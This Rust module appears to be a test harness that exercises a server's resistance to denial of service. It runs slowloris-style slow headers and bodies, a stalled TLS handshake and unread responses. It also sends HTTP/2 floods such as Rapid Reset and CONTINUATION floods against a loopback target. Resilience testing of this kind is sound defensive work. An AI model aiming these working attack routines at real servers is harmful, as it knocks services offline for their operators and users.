//! Attackers. Each has connected, returns when the server has disconnected it,
//! and hangs otherwise.

use std::{
    net::{IpAddr, SocketAddr},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    time,
};

/// Who attacks whom.
#[derive(Clone, Copy, Debug)]
pub struct Target {
    /// The attacker's address, one of loopback's.
    pub from: IpAddr,
    pub door: SocketAddr,
}

/// What a late body begins with.
pub const LATE: &[u8] = &[b'a'; 2 << 10];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![a, b, c, kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET path` in HPACK (RFC 7541): static fields, the path as a literal.
fn get(path: &str) -> Vec<u8> {
    request(0x82, path)
}

fn post(path: &str) -> Vec<u8> {
    request(0x83, path)
}

fn request(method: u8, path: &str) -> Vec<u8> {
    let mut block = vec![method, 0x86, 0x01, 1, b'x', 0x04, path.len() as u8];
    block.extend(path.as_bytes());
    block
}

/// Connects, as soon as the server has a place for it.
pub async fn connect(target: Target) -> TcpStream {
    let socket = TcpSocket::new_v4().expect("a socket");
    let from = SocketAddr::new(target.from, 0);
    socket.bind(from).expect("an address of loopback");
    let stream = socket.connect(target.door).await;
    let stream = stream.expect("the door is open");
    stream.set_nodelay(true).expect("open");
    stream
}

/// An HTTP/2 connection whose client wants all there is.
async fn http2(mut stream: TcpStream) -> TcpStream {
    let mut hello = PREFACE.to_vec();
    // INITIAL_WINDOW_SIZE of 2 GiB − 1.
    hello.extend(frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]));
    hello.extend(frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0]));
    stream.write_all(&hello).await.expect("sent");
    stream
}

/// Reads until the server ends the connection.
async fn until_cut(stream: &mut (impl AsyncReadExt + Unpin)) {
    let mut buffer = [0; 4096];
    while !matches!(stream.read(&mut buffer).await, Ok(0) | Err(_)) {}
}

/// Sends a byte of `bytes` now and then, from the start again when they are
/// over, until the server ends the connection.
async fn trickle(mut stream: TcpStream, bytes: &[u8]) {
    let (mut reader, mut writer) = stream.split();
    let sending = async {
        for byte in bytes.iter().cycle() {
            time::sleep(Duration::from_millis(100)).await;
            if writer.write_all(&[*byte]).await.is_err() {
                break;
            }
        }
    };
    tokio::select! {
        () = sending => {}
        () = until_cut(&mut reader) => {}
    }
}

pub async fn silent(mut stream: TcpStream) {
    until_cut(&mut stream).await;
}

/// A request whose headers never end.
pub async fn slow_headers(mut stream: TcpStream, over_http2: bool) {
    if over_http2 {
        let mut stream = http2(stream).await;
        // A frame of 16 KiB, of which a byte comes now and then.
        let start = [0, 0x40, 0, HEADERS, END_STREAM, 0, 0, 0, 1];
        stream.write_all(&start).await.expect("sent");
        return trickle(stream, &get("/")).await;
    }
    let start = b"GET / HTTP/1.1\r\nhost: x\r\n";
    stream.write_all(start).await.expect("sent");
    trickle(stream, b"a: b\r\n").await;
}

/// A request whose body never ends; its beginning is sent at once. What is
/// beyond the first KiB is for the service, which then has the request.
pub async fn slow_body(mut stream: TcpStream, over_http2: bool, beginning: &[u8]) {
    if over_http2 {
        let mut stream = http2(stream).await;
        let mut start = frame(HEADERS, END_HEADERS, 1, &post("/take"));
        if !beginning.is_empty() {
            start.extend(frame(DATA, 0, 1, beginning));
        }
        stream.write_all(&start).await.expect("sent");
        return trickle(stream, &frame(DATA, 0, 1, b"a")).await;
    }
    let start = b"POST /take HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n";
    let start = [&start[..], beginning].concat();
    stream.write_all(&start).await.expect("sent");
    trickle(stream, b"a").await;
}

pub async fn slow_handshake(mut stream: TcpStream) {
    // A record of 256 bytes with a ClientHello of which little comes.
    let start = [22, 3, 1, 1, 0, 1, 0, 0, 252, 3, 3];
    stream.write_all(&start).await.expect("sent");
    trickle(stream, &[0]).await;
}

/// Asks for more than it reads.
pub async fn unread(mut stream: TcpStream, over_http2: bool) {
    let mut stream = if over_http2 {
        let mut stream = http2(stream).await;
        for id in (1..64).step_by(2) {
            let ask = frame(HEADERS, END_HEADERS | END_STREAM, id, &get("/endless"));
            stream.write_all(&ask).await.expect("sent");
        }
        stream
    } else {
        let ask = b"GET /endless HTTP/1.1\r\nhost: x\r\n\r\n";
        stream.write_all(ask).await.expect("sent");
        stream
    };
    // A reset shows without reading, at the latest when more is sent. Spaces
    // mean nothing to HTTP/1 here: it is not listening.
    let more = match over_http2 {
        true => frame(PING, 0, 0, &[0; 8]),
        false => b" ".to_vec(),
    };
    while stream.write_all(&more).await.is_ok() {
        time::sleep(Duration::from_millis(200)).await;
    }
}

/// HTTP/2 frames that cost the sender nothing.
#[derive(Clone, Copy, Debug)]
pub enum Flood {
    RapidReset,
    Continuation,
    EmptyContinuation,
    Settings,
    Ping,
    Priority,
    EmptyData,
    Unknown,
    WindowUpdate,
    /// One stream of half a header block.
    OpenBlock,
}

impl Flood {
    pub const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::EmptyData,
        Self::Unknown,
        Self::WindowUpdate,
        Self::OpenBlock,
    ];

    /// What it begins with.
    fn start(self) -> Vec<u8> {
        match self {
            Self::Continuation | Self::EmptyContinuation => frame(HEADERS, 0, 1, &get("/")),
            Self::OpenBlock => frame(HEADERS, 0, 1, &get("/")),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &get("/never")),
            _ => Vec::new(),
        }
    }

    /// What it goes on with; `n` counts from zero.
    fn next(self, n: u32) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let id = 2 * n + 1;
                let mut both = frame(HEADERS, END_HEADERS | END_STREAM, id, &get("/never"));
                both.extend(frame(RST_STREAM, 0, id, &[0, 0, 0, 8]));
                both
            }
            // A field that is in no index: a literal of 64 bytes.
            Self::Continuation => {
                let mut field = vec![0x00, 1, b'y', 64];
                field.extend([b'z'; 64]);
                frame(CONTINUATION, 0, 1, &field)
            }
            Self::EmptyContinuation => frame(CONTINUATION, 0, 1, &[]),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            Self::Priority => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 7]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Unknown => frame(0xbe, 0, 0, &[]),
            Self::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Self::OpenBlock => Vec::new(),
        }
    }
}

/// Sends frames as fast as they are taken, and reads what comes back.
pub async fn flood(stream: TcpStream, flood: Flood) {
    let mut stream = http2(stream).await;
    let (mut reader, mut writer) = stream.split();
    let sending = async {
        if writer.write_all(&flood.start()).await.is_err() {
            return;
        }
        for batch in 0.. {
            let frames: Vec<_> = (0..64).flat_map(|n| flood.next(64 * batch + n)).collect();
            if frames.is_empty() {
                std::future::pending::<()>().await;
            }
            if writer.write_all(&frames).await.is_err() {
                return;
            }
            tokio::task::yield_now().await;
        }
    };
    tokio::select! {
        () = sending => {}
        () = until_cut(&mut reader) => {}
    }
}
